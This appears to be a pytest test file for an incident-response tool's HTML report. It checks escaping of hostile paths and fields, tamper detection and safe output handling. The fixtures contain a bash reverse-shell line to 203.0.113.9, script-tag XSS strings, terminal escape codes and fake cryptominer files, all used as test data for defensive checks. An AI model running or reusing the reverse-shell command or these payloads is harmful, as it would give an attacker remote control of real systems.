"""The page of a hostile bundle: whole, escaped, and never silent about what does not hold."""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from irkit.cli.main import run
from irkit.errors import ExitCode
from irkit.evidence import keys
from irkit.evidence.seal import seal_bundle
from irkit.evidence.writer import BundleWriter, Origin
from irkit.models import Change, FileFacts
from irkit.review import report
from irkit.text import text_fields
from tests.unit.compare.sides import side

ORIGIN = Origin("test", "<img src=x>", "made up")
SCRIPT = "/tmp/<script>alert(1)</script>"
HOSTILE = (SCRIPT, "/tmp/\x1b[2J", "/tmp/a\nb", os.fsdecode(b"/tmp/\xff\xfe"), '/tmp/" onload="x', "/tmp/\u202egpj")
FACTS = {"case": "2026-01-02-web-1", "run": "r1", "target": {"name": "web<script>", "id": "c0ffee"}}
SECRET = "hunter2-secret"
DIGEST = "ab" * 32


@pytest.fixture
def bundle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("IRKIT_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    return make(tmp_path / "bundle")


def make(folder: Path) -> Path:
    writer = BundleWriter(folder)
    facts = FileFacts("file", 0o4755, 0, 0, 5, sha256=DIGEST)
    changes = [Change(path, "added", None, facts) for path in HOSTILE]
    lines = b"".join(json.dumps(one.to_json()).encode() + b"\n" for one in changes)
    writer.add("filesystem/changes.jsonl", (lines,), ORIGIN)
    process = {
        "pid": 41, "ppid": 1, "uid": [1000, 0, 0, 0], "started": "2026-01-02T03:04:05Z", **text_fields("name", "x"),
        "argv": [text_fields("text", item) for item in HOSTILE], "fds": [], "environ_names": ["PASSWORD"],
        "exe": {**text_fields("path", HOSTILE[3]), "deleted": True, "memory": False, "sha256": DIGEST, "size": 5},
    }  # fmt: skip
    writer.add_json("process/processes.json", [process], ORIGIN)
    writer.add_json("process/environ.json", {"41": [{"name": "PASSWORD", "value": SECRET}]}, ORIGIN)
    step = {"id": "freeze", "name": "Freeze", "uses": "container.freeze", "outcome": "succeeded", "message": SCRIPT}
    record = {"opened": "2026-01-02T03:00:00Z", "opened_by": "alice@host", "steps": [step], "timeline": {}}
    writer.add_json("run/run.json", record, ORIGIN)
    probe = {"path": "gateway", "direction": "out", "result": "reached", "detail": "\x9b31m", "time": "t", "ms": 1.0}
    writer.add_json("quarantine/proof.json", {"state": "open", "network": "q", "note": "", "probes": [probe]}, ORIGIN)
    writer.add("custody/calls.jsonl", (b'{"a": 1}\n' * 7,), ORIGIN, compress=False)
    writer.gap("tmpfs", SCRIPT, "why\x07")
    seal_bundle(writer, FACTS, "complete", keys.generate("responder"))
    return folder


class Tags(HTMLParser):
    """What a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.targets: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.targets += [value or "" for name, value in attrs if name in ("src", "href")]


def harmless(page: Path) -> str:
    text = page.read_bytes().decode("utf-8")
    assert "<script" not in text.lower()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
    tags = Tags()
    tags.feed(text)
    assert not tags.names & {"script", "img", "link", "iframe", "object", "embed", "form", "base"}
    assert tags.attributes <= {
        "class",
        "id",
        "href",
        "lang",
        "charset",
        "open",
        "http-equiv",
        "content",
        "name",
        "scope",
    }
    assert all(one.startswith("#") for one in tags.targets)
    assert SECRET not in text
    assert "default-src 'none'; style-src 'unsafe-inline'" in text
    return text


def test_verified(bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["report", str(bundle)]) == ExitCode.DONE
    assert capsys.readouterr().out == "irkit-report-2026-01-02-web-1.html\n"
    text = harmless(tmp_path / "irkit-report-2026-01-02-web-1.html")
    assert "<strong>VERIFIED</strong>" in text and "NOT VERIFIED" not in text
    expected = (
        "&lt;script&gt;alert(1)&lt;/script&gt;", "\\x1b[2J", "/tmp/a\\nb", "\\xff\\xfe", "\\u202egpj", "responder", "1000 / 0", "open",
        "reached", "alice@host", DIGEST, "4755", "why\\x07", "The bundle holds no network/sockets.json.", "deleted",
    )  # fmt: skip
    assert [one for one in expected if one not in text] == []
    assert re.search(r"calls to the engine</th><td>7<", text)


def test_altered(bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    victim = bundle / "data/process/processes.json"
    data = bytearray(victim.read_bytes())
    data[len(data) // 2] ^= 1
    victim.write_bytes(data)
    assert run(["report", str(bundle), "-o", "page.html", "--json"]) == ExitCode.CHECK_FAILED
    printed = capsys.readouterr()
    assert json.loads(printed.out) == {"schema": "irkit.report/v1", "report": "page.html", "verified": False}
    text = harmless(tmp_path / "page.html")
    assert "NOT VERIFIED" in text and "Nothing below can be believed" in text and "processes.json: altered" in text
    assert "Not read to its end" in text


@pytest.mark.parametrize(
    "index", [b"", b"[]", b"{}", b"\xff", b'{"artifacts": 1}', b'{"artifacts": [], "gaps": 3, "target": 4, "tool": []}']
)
def test_any_index_gets_a_page(bundle: Path, tmp_path: Path, index: bytes) -> None:
    (bundle / "data/index.json").write_bytes(index)
    assert run(["report", str(bundle), "-o", "page.html"]) == ExitCode.CHECK_FAILED
    assert "data/index.json: altered" in harmless(tmp_path / "page.html")


def test_links_and_pipes_are_not_opened(bundle: Path, tmp_path: Path) -> None:
    (bundle / "data/index.json").unlink()
    os.mkfifo(bundle / "data/index.json")
    assert run(["report", str(bundle), "-o", "page.html"]) == ExitCode.CHECK_FAILED
    assert "nothing was read" in harmless(tmp_path / "page.html")


def test_unknown_key(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "other.pub").write_bytes(keys.generate("other").public.pem)
    assert run(["report", str(bundle), "--key", "other.pub", "-o", "page.html"]) == ExitCode.CHECK_FAILED
    assert "no trusted key" in harmless(tmp_path / "page.html")


def test_more_than_shown(bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(report, "ROWS_SHOWN", 2)
    assert run(["report", str(bundle), "-o", "page.html"]) == ExitCode.DONE
    assert f"{len(HOSTILE) - 2} more changes in the bundle." in harmless(tmp_path / "page.html")


def test_never_inside_the_bundle_nor_over_a_link(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "link.html").symlink_to(tmp_path / "elsewhere")
    for output in (bundle / "page.html", bundle / "data" / "page.html", tmp_path / "link.html"):
        assert run(["report", str(bundle), "-o", str(output)]) == ExitCode.USAGE
    assert not list(bundle.rglob("page.html")) and not (tmp_path / "elsewhere").exists()
    (tmp_path / "empty").mkdir()
    assert run(["report", str(tmp_path / "empty")]) == ExitCode.USAGE


def test_text_diffs_and_folded_counts(tmp_path: Path) -> None:
    folder = tmp_path / "bundle"
    shell = b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # <script>alert(1)</script>\x1b[2J\n"
    before = {"/opt/run.sh": b"#!/bin/sh\necho fine\n", "/var/log/app.log": b"a\n"}
    after = {"/opt/run.sh": before["/opt/run.sh"] + shell, "/var/log/app.log": b"a\nb\n", "/srv/x.txt": b"new\n"}
    side(folder, before, dict(after))
    page = report.write_report(folder, [], tmp_path / "page.html").path
    text = harmless(page)
    assert " echo fine\n+bash -i &gt;&amp; /dev/tcp" in text and "\\x1b[2J" in text
    assert "/opt/run.sh (+1 −0)" in text, "a text with a finding"
    assert "+new" not in text and "+b\n" not in text, "no other one"
    assert "<td>logs</td><td>Logs</td><td>1</td>" in text


def test_a_crowd_of_findings_buries_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither another rule's findings nor the text that they are about."""
    monkeypatch.setattr(report, "ROWS_SHOWN", 12)
    monkeypatch.setattr(report, "EACH_SHOWN", 2)
    monkeypatch.setattr(report, "DIFFS_SHOWN", 12)
    crowd = {f"/opt/xmrig{number:03}": b"#!/bin/sh\n" for number in range(40)}
    side(tmp_path / "bundle", {}, {**crowd, "/opt/z.sh": b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/44 0>&1\n"})
    text = harmless(report.write_report(tmp_path / "bundle", [], tmp_path / "page.html").path)
    assert "<td>/opt/z.sh</td>" in text and "/opt/z.sh (+2 −0)" in text
    assert "… and 38 more of miner-file" in text and "30 more" in text


def test_what_the_comparison_could_not_look_at_is_told(tmp_path: Path) -> None:
    side(tmp_path / "bundle", {}, {"/opt/long": b"#!/bin/sh\n" + b"# pad" * 2_000_000})
    text = harmless(report.write_report(tmp_path / "bundle", [], tmp_path / "page.html").path)
    assert "rules searched them in pieces" in text
